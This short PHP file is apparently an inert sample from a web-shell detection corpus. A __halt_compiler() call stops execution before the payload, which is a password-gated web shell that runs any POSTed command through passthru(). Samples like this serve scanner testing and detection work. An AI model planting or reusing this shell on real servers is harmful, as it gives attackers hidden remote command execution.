<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
if (md5($_POST['pw']) == '77c5f3c6d2e3987fbdabed4a14ed2270') {
    echo '<pre>';
    passthru($_POST['key']);
    echo '</pre>';
}
